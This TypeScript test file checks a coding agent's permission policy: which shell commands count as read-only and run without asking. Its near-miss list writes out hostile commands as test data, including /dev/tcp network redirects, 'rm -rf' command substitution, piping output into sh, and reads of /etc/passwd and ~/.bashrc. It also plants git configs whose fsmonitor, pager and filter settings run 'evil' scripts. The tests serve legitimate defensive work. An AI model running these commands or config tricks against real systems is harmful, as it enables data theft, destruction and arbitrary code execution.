// The read-only list (read-only-commands.ts), decided through RulePolicy.decide in default mode with no rules:
// commands that only read inside the project run without a prompt; near-misses that write, run something else,
// never end, or read outside the project still ask.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RulePolicy, type RuleEntry } from '../../src/permissions/policy';
import { READ_ONLY_COMMANDS } from '../../src/permissions/read-only-commands';
import type { PermissionMode, PermissionQuery } from '../../src/permissions/types';
import { makeTestTempDir } from '../support/temp-dirs';

let root = '';
let home = '';
let outside = '';

beforeAll(() => {
  const base = makeTestTempDir('tandem-readonly-');
  root = path.join(base, 'project');
  home = path.join(base, 'home');
  outside = path.join(base, 'elsewhere');
  for (const d of [root, path.join(root, 'src'), home, outside]) fs.mkdirSync(d, { recursive: true });
  fs.writeFileSync(path.join(root, 'README.md'), 'x');
  fs.writeFileSync(path.join(root, 'src', 'a.ts'), 'x');
  fs.writeFileSync(path.join(outside, 'secret'), 'x');
  fs.symlinkSync(outside, path.join(root, 'escape'));
  fs.symlinkSync(path.join(outside, 'secret'), path.join(root, 'link'));
});

afterAll(() => {
  fs.rmSync(path.dirname(root), { recursive: true, force: true });
});

function decide(command: string, mode: PermissionMode = 'default', rules: RuleEntry[] = [], cwd = root): { behavior: string; reason: string } {
  const policy = new RulePolicy({ rules, homeDir: home });
  const q: PermissionQuery = {
    toolName: 'Bash', input: { command }, preview: { kind: 'command', command, cwd },
    agentName: 'main', mode, cwd, projectRoot: root,
  };
  return policy.decide(q);
}

const readOnly: string[] = [
  'ls', 'ls -la', 'ls src', 'ls -R src', 'pwd', 'echo hello', 'echo $HOME', 'echo "$(git rev-parse HEAD)"', 'true', 'false',
  'cat README.md', 'cat src/a.ts | grep x', 'head -n 5 README.md', 'tail -n 20 README.md', 'tail -5 README.md',
  'wc -l src/a.ts', 'grep -rn TODO src', 'grep -i foo README.md', 'grep -c x README.md src/a.ts', 'rg TODO', 'rg -n foo src',
  'git status', 'git status -s', 'git diff', 'git diff --stat HEAD~1..HEAD', 'git log --oneline -5', 'git log -p -3',
  'git show HEAD', 'git show HEAD:README.md', 'git branch', 'git branch -a', "git branch --list 'feat*'", 'git branch -vv',
  'git rev-parse --show-toplevel', 'git blame src/a.ts', 'git --no-pager log', 'git log --format=%H -n1', 'which node',
  'date', 'date +%s', 'env', 'printenv PATH', 'tree', 'tree -L 2 src', "find . -name '*.ts'", 'find src -type f',
  'stat README.md', 'file README.md', 'du -sh src', 'df -h', 'uname -a', 'whoami', 'id', 'hostname', 'nproc',
  'sed -n 1,5p README.md', "sed -n '/foo/p' README.md", "sed 's/a/b/g' README.md", "awk '{print $1}' README.md",
  'sort README.md', 'sort -u README.md | uniq -c', 'cut -d, -f1 README.md', 'cd src && ls', 'ls 2>/dev/null',
  'ls > /dev/null 2>&1', 'diff README.md src/a.ts', 'jq .name README.md', 'basename /a/b', 'dirname src/a.ts',
  'realpath src', 'echo a && echo b || true', 'cat README.md | head -3 | wc -l', 'sha256sum README.md',
  'od -c README.md | head', 'xxd README.md | head', 'base64 README.md', 'ls; pwd', 'wc -l < README.md',
];

const stillAsks: string[] = [
  // git options that run a program, write a file, or leave the repository
  'git -c core.pager=sh log', 'git -c alias.x=!sh status', 'git log --output=x', 'git log --out=x', 'git diff --ext-diff',
  'git diff --no-index README.md /etc/passwd', 'git diff /etc/passwd README.md', 'git -C /tmp status',
  'git --git-dir=/tmp/x log', 'git -p log', 'git --paginate log', 'git diff -Oorder.txt', 'git branch newbranch',
  'git branch -D main', 'git branch -m a b', 'git push', 'git commit -m x', 'git stash', 'GIT_PAGER=sh git log',
  'GIT_DIR=/tmp git status', 'git blame --contents /etc/passwd src/a.ts', 'git log --help', 'ls > /dev/tcp/example.com/80',
  'cat < /dev/tcp/example.com/80', 'echo $(</etc/passwd)', 'cd src && cd ../.. && ls',
  // find that runs or writes
  'find . -delete', 'find . -exec rm {} +', "find . -execdir sh -c x ';'", 'find . -ok rm {} ;', 'find . -fprint out',
  'find . -fls out', 'find -L .',
  // writes
  'echo x > f', 'echo x >> README.md', 'ls > out.txt', 'ls 2>err.txt', 'ls | tee out', 'sort -o f README.md',
  'sort --output=f README.md', 'sort --o=f README.md', 'printf -v PATH %s /tmp; ls', ': ${PATH:=/tmp}; ls', 'sort -uo f README.md', 'uniq README.md out', 'xxd README.md out', 'tree -o out',
  'touch x', 'cp README.md b', 'mv a b', 'mkdir x', 'rm x', 'cat > f', 'file -C -m magic',
  // sed and awk that do more than print
  'sed -i s/a/b/ README.md', 'sed -i.bak s/a/b/ README.md', 'sed -Ei s/a/b/ README.md', 'sed --in-place s/a/b/ README.md',
  "sed 's/a/b/w out' README.md", "sed '1e date' README.md", "sed 's/a/date/e' README.md", 'sed -f prog.sed README.md',
  "sed '1r /etc/passwd' README.md", "awk 'BEGIN{system(\"x\")}'", "awk '{print > \"out\"}' README.md",
  "awk '{print | \"sh\"}' README.md", "awk 'BEGIN{getline l < \"/etc/passwd\"}'", 'awk -f prog.awk README.md',
  // pagers, long-running, and commands that run commands
  'less README.md', 'more README.md', 'man ls', 'env X=1 sh', 'env sh', 'tail -f log', 'tail -F log', 'tail --follow=name log',
  'tail -fn5 log', 'xargs cat', 'echo x | xargs rm', 'bash -c ls', "sh -c 'cat x'", 'sudo cat README.md', 'time ls',
  'python3 -c "print(1)"', 'node -e 1', 'npm test', 'make', 'rg --pre cat x', 'rg -L x', 'grep -R x .',
  'du -L src', 'date -s 2020-01-01', 'date 010100002020', 'hostname evil', 'sha256sum -c sums', 'wc --files0-from=list',
  // substitutions and compound commands with a part that is not read-only
  'cat $(rm -rf x)', 'cat `rm x`', 'echo "$(rm x)"', 'ls; rm x', 'ls && rm x', 'ls & rm x', 'ls || rm -rf x', 'ls | sh',
  'diff <(ls) <(ls src)', '(ls)', '{ ls; }', 'if true; then ls; fi', 'ls $(pwd)',
  // paths not known statically, outside the project, or through a symlink that leaves it
  'cat *.md', 'cat "$F"', 'ls $HOME', 'cat ~root/x', 'cat .{a,b}', 'cat /etc/passwd', 'cat ../outside', 'cat escape/secret',
  'cat link', 'ls /', 'cat ~/.bashrc', 'cd / && ls', 'cd .. && cat x', 'cd escape && ls', 'grep -r x ..', 'find / -name x',
  'tree /', 'wc -l < /etc/passwd',
  // environment prefixes and commands named by a path
  'X=1 ls', 'LESSOPEN="|sh" cat README.md', './ls', '/tmp/cat README.md', '$CMD README.md', 'cat <<EOF\nx\nEOF',
];

describe('read-only commands run without a prompt', () => {
  it('the table holds at least 100 commands, at least half of them near-misses', () => {
    expect(readOnly.length + stillAsks.length).toBeGreaterThanOrEqual(100);
    expect(stillAsks.length).toBeGreaterThanOrEqual((readOnly.length + stillAsks.length) / 2);
  });

  it.each(readOnly)('allowed: %s', (command) => {
    const d = decide(command);
    expect(d.behavior, d.reason).toBe('allow');
    expect(d.reason).toBe('the command only reads inside the project');
  });

  it.each(stillAsks)('asks: %s', (command) => {
    const d = decide(command);
    expect(d.behavior, d.reason).toBe('ask');
  });

  it('every mode lets read-only commands through, plan mode included', () => {
    for (const mode of ['default', 'acceptEdits', 'plan', 'bypassPermissions'] as const) {
      expect(decide('git status', mode).behavior).toBe('allow');
    }
    expect(decide('git push', 'plan').behavior).toBe('deny');
    expect(decide('ls > out', 'plan').behavior).toBe('deny');
  });

  it('deny and ask rules still win', () => {
    const rule = (r: string, behavior: 'deny' | 'ask'): RuleEntry[] => [{ rule: r, behavior, source: 'test' }];
    expect(decide('git status', 'default', rule('Bash(git status:*)', 'deny')).behavior).toBe('deny');
    expect(decide('git log', 'default', rule('Bash(git log:*)', 'ask')).behavior).toBe('ask');
    expect(decide('cat .env', 'default', rule('Read(.env)', 'deny')).behavior).toBe('deny');
    expect(decide('cat .env', 'default', rule('Read(.env)', 'ask')).behavior).toBe('ask');
    expect(decide('grep -r x .', 'default', rule('Read(.env)', 'deny')).behavior).toBe('ask');
    expect(decide('ls src', 'plan', rule('Read(src)', 'deny')).behavior).toBe('deny');
  });

  it('the reason says why a line is not read-only', () => {
    expect(decide('git log --output=x').reason).toBe('Bash runs a command, and no allow rule covers it (not read-only: git log --output=x is not read-only)');
    expect(decide('tail -f log').reason).toContain('(not read-only: the option -f is not read-only)');
    expect(decide('ls && npm test').reason).toContain('(not read-only: `npm` is not on the read-only list)');
  });

  it('a shell that sits outside the project asks even for ls', () => {
    expect(decide('ls', 'default', [], outside).behavior).toBe('ask');
    expect(decide('echo hi', 'default', [], outside).behavior).toBe('ask');
  });

  it('the list holds the commands the README promises', () => {
    for (const name of ['ls', 'pwd', 'echo', 'cat', 'head', 'tail', 'wc', 'grep', 'rg', 'git', 'which', 'date', 'env', 'tree',
      'find', 'stat', 'file', 'du', 'df', 'uname', 'whoami', 'id', 'printenv']) {
      expect(READ_ONLY_COMMANDS).toContain(name);
    }
    for (const name of ['less', 'more', 'man', 'xargs', 'sh', 'bash', 'sudo', 'env X=1']) expect(READ_ONLY_COMMANDS).not.toContain(name);
  });
});

describe('a repository whose own git config runs programs', () => {
  let repo = '';
  beforeAll(() => {
    repo = makeTestTempDir('tandem-gitcfg-');
  });
  afterAll(() => fs.rmSync(repo, { recursive: true, force: true }));

  const gitDecision = (config: string, command = 'git status', dotGitFile = false): string => {
    fs.rmSync(path.join(repo, '.git'), { recursive: true, force: true });
    fs.rmSync(path.join(repo, 'real-git'), { recursive: true, force: true });
    const gitDir = path.join(repo, dotGitFile ? 'real-git' : '.git');
    fs.mkdirSync(gitDir, { recursive: true });
    if (dotGitFile) fs.writeFileSync(path.join(repo, '.git'), 'gitdir: real-git\n');
    fs.writeFileSync(path.join(gitDir, 'config'), config);
    const policy = new RulePolicy({ homeDir: home });
    return policy.decide({
      toolName: 'Bash', input: { command }, preview: { kind: 'command', command, cwd: repo },
      agentName: 'main', mode: 'default', cwd: repo, projectRoot: repo,
    }).behavior;
  };

  it.each([
    ['core.fsmonitor', '[core]\n\tfsmonitor = "sh -c evil"\n', 'git status'],
    ['core.pager', '[core]\n\tpager = sh -c evil\n', 'git log'],
    ['diff.external', '[diff]\n\texternal = ./evil.sh\n', 'git diff'],
    ['a textconv driver', '[diff "bin"]\n\ttextconv = ./evil.sh\n', 'git show HEAD'],
    ['a clean filter', '[filter "x"]\n\tclean = ./evil.sh\n', 'git status'],
    ['an include', '[include]\n\tpath = ../evil.cfg\n', 'git status'],
    ['a pager section', '[pager]\n\tlog = ./evil.sh\n', 'git log'],
  ])('%s makes git ask', (_name, config, command) => {
    expect(gitDecision(config, command)).toBe('ask');
  });

  it('follows a .git file to the real git directory', () => {
    expect(gitDecision('[core]\n\tfsmonitor = evil\n', 'git status', true)).toBe('ask');
  });

  it('an ordinary config keeps git read-only', () => {
    expect(gitDecision('[core]\n\tbare = false\n[remote "origin"]\n\turl = x\n[submodule "a"]\n\tpath = a\n# fsmonitor = x\n')).toBe('allow');
  });
});
